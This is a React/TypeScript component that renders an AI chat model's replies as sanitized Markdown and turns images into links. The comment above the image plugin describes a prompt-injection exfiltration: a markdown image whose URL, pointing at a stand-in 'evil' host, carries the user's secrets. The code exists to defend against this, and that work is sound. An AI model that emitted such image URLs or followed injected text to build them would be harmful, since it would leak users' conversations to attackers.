"use client";

import { memo, useState, type ComponentProps } from "react";
import ReactMarkdown, { type Components } from "react-markdown";
import remarkGfm from "remark-gfm";
import rehypeSanitize from "rehype-sanitize";
import type { Element, ElementContent, Root, Text } from "hast";

// Model output is untrusted: react-markdown never renders raw HTML (no rehype-raw), and the
// sanitizer strips anything dangerous that Markdown itself could produce (javascript: links, …).

/**
 * An image in a reply would be fetched by the browser as soon as it is shown, no click needed,
 * from whatever URL the model wrote: a prompt injection makes it `![](https://evil/?q=<secrets>)`
 * and the conversation leaks. Images are rendered as links instead (their alt text and URL);
 * following one is the reader's choice. Inside a link, where a link cannot go, as plain text.
 * The page's CSP (img-src 'self') is the second line of defence.
 */
export function rehypeImagesAsLinks() {
  return (tree: Root) => {
    const walk = (node: Root | Element, inLink: boolean) => {
      node.children = node.children.map((child) => {
        if (child.type !== "element") return child;
        if (child.tagName === "img") return imageAsLink(child, inLink);
        walk(child, inLink || child.tagName === "a");
        return child;
      }) as typeof node.children;
    };
    walk(tree, false);
  };
}

function imageAsLink(img: Element, inLink: boolean): ElementContent {
  const src = typeof img.properties.src === "string" ? img.properties.src : "";
  const alt = typeof img.properties.alt === "string" ? img.properties.alt.trim() : "";
  const label: Text = { type: "text", value: `Image: ${alt || "untitled"}${src ? ` (${src})` : ""}` };
  if (!src || inLink) return label;
  return { type: "element", tagName: "a", properties: { href: src }, children: [label] };
}

function CodeBlock(props: ComponentProps<"pre">) {
  const [copied, setCopied] = useState(false);
  const text = extractText(props.children);
  return (
    <div className="group relative">
      <button
        type="button"
        onClick={() => {
          void navigator.clipboard?.writeText(text).then(() => {
            setCopied(true);
            setTimeout(() => setCopied(false), 1500);
          });
        }}
        className="absolute top-2 right-2 rounded border border-neutral-600 bg-neutral-800 px-2 py-0.5 text-xs text-neutral-200 opacity-0 transition group-hover:opacity-100 focus:opacity-100"
        aria-label="Copy code"
      >
        {copied ? "Copied" : "Copy"}
      </button>
      <pre className="overflow-x-auto rounded-lg bg-neutral-900 p-4 font-mono text-sm text-neutral-100 dark:bg-black">{props.children}</pre>
    </div>
  );
}

function extractText(node: unknown): string {
  if (typeof node === "string" || typeof node === "number") return String(node);
  if (Array.isArray(node)) return node.map(extractText).join("");
  if (node && typeof node === "object" && "props" in node) {
    return extractText((node as { props: { children?: unknown } }).props.children);
  }
  return "";
}

const components: Components = {
  pre: CodeBlock,
  a: ({ href, children }) => (
    <a href={href} target="_blank" rel="noopener noreferrer nofollow">
      {children}
    </a>
  ),
};

export const Markdown = memo(function Markdown({ text }: { text: string }) {
  return (
    <div className="prose-chat">
      <ReactMarkdown remarkPlugins={[remarkGfm]} rehypePlugins={[rehypeSanitize, rehypeImagesAsLinks]} components={components}>
        {text}
      </ReactMarkdown>
    </div>
  );
});
